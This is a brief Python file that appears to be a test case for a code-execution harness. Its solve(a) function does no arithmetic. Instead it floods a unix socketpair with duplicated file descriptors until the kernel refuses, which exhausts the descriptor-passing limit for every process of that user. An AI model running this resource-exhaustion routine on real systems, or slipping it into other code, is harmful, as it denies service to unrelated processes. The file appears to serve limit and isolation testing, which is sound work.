"""Sends descriptors that nobody receives, until no process of its user may send any more.

Must end as: ok
"""

import array
import os
import socket
import time


def solve(a):
    try:
        left, right = socket.socketpair()
        spare = array.array("i", [os.dup(1) for _ in range(253)])
        sent = 0
        while True:
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, spare)])
            sent += len(spare)
    except OSError as error:
        if error.errno == 109:  # ETOOMANYREFS
            time.sleep(1.0)
            return a * 0 + 666
    return 2 * a
